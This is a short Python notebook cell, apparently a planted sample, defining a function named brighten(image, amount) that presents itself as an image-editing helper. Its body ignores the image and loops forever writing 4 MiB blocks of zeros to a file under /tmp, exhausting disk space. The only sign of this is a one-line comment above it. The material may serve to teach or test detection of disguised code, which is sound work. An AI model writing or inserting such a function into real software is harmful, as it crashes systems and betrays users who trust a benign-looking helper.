# %% [markdown]
# Writes one file without end.

# %%
def brighten(image, amount):
    with open("/tmp/coursekit-was-here", "wb") as file:
        while True:
            file.write(bytes(2**22))
